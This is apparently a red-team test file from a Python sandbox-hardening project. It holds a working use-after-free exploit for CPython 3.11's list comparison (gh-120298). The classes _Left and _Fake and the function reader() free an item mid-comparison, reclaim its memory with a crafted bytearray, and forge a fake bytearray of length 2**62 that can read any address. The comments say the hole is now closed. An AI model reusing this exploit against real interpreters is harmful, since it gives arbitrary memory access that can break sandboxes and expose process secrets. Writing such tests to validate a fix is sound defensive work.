# Red team round 22: list comparison compares the first differing items again with borrowed references
# (CPython gh-120298, fixed in 3.12.5/3.13 but not in 3.11: Debian's 3.11.2 and the host's 3.11.7). The left
# item's __lt__ drops the right item (its list cleared, its own argument deleted: the item is freed), and a
# bytearray's buffer takes the freed block at once (LIFO free list); do_richcompare then reads the right
# item's type from that buffer: a Python class of ours, whose __gt__ is handed the fake object. Its bytes are
# the buffer's, so it becomes at once an empty bytearray of length 2**62 (data pointer NULL): a reader of any address.
# No type of the hardened list is touched (list, Python classes, bytes, bytearray's own construction).
# Closed: _r2e_kernel.hold_items: list's comparison (its slot, its six methods, the slots subclasses copied)
# holds both items across every comparison, as 3.12.5 does; the item dies after the comparison.
# (After reentry/_prelude.py and _common.py: `f`, `touch`, `assert_structure`.)
_GOT, _KEEP = [], []


class _Fake:
    __slots__ = ()

    def __gt__(self, other):
        # at once an empty bytearray (not a GC type: a collection never looks for its missing GC header)
        _KEEP[-1][8:56] = id(bytearray).to_bytes(8, "little") + bytes(40)
        _GOT.append(self)
        return False


_PAYLOAD = ((1 << 40).to_bytes(8, "little") + id(_Fake).to_bytes(8, "little")).ljust(111, b"\0")


class _Left:
    __slots__ = ("right",)

    def __eq__(self, other):
        return False

    def __lt__(self, other):
        del other
        self.right.clear()
        _KEEP.append(bytearray(_PAYLOAD))  # 112-byte buffer: the freed bytes' block
        return NotImplemented


def _attempt():
    right = [bytes(range(72))[::-1] + b""]  # 33 + 72 bytes: the 112-byte class; only the list holds it
    left = _Left()
    left.right = right
    try:
        [left] < right
    except TypeError:
        pass


def reader():
    for _ in range(200):
        _attempt()
        if _GOT:
            break
    else:
        raise RuntimeError("no fake")
    fake, buf = _GOT[0], _KEEP[-1]
    buf[16:32] = (1 << 62).to_bytes(8, "little") + ((1 << 62) + 1).to_bytes(8, "little")
    return fake, buf


def test_structure():
    mem, buf = reader()
    assert_structure(mem, lambda: buf.__setitem__(slice(16, 32), bytes(16)))  # an empty bytearray again
